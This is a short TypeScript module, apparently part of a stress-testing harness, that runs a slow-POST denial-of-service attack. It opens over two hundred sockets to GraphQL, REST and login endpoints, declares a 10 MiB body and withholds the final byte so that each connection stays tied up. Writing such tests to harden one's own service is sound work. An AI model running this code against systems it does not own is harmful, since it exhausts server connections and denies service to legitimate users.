// Sends bodies whose last byte never comes.

import { type Attack, Outcomes, repeat } from "../attack.ts";
import { ANON_KEY } from "../callers.ts";
import { holdSocket, sendBytes } from "../hold-socket.ts";

const BODY_BYTES = 10 * 2 ** 20;
const SOCKETS: Readonly<Record<string, number>> = {
  "/graphql": 120,
  "/rest/v1/marks": 40,
  "/users": 40,
  "/auth/login": 40,
};

export const attack: Attack = async (target) => {
  const outcomes = new Outcomes();
  const paths = Object.entries(SOCKETS).flatMap(([path, sockets]) => Array<string>(sockets).fill(path));
  await repeat(target, { times: paths.length, pauseMs: 250 }, async (index) => {
    outcomes.count(await hold(new URL(paths[index]!, target.url), target.until));
  });
  return outcomes.result;
};

function hold(url: URL, until: number): Promise<string> {
  return holdSocket(url, until, (socket) => {
    const head = `Host: ${url.hostname}\r\nContent-Type: application/json\r\napikey: ${ANON_KEY}`;
    socket.write(`POST ${url.pathname} HTTP/1.1\r\n${head}\r\nContent-Length: ${BODY_BYTES}\r\n\r\n`);
    sendBytes(socket, BODY_BYTES - 1);
  });
}
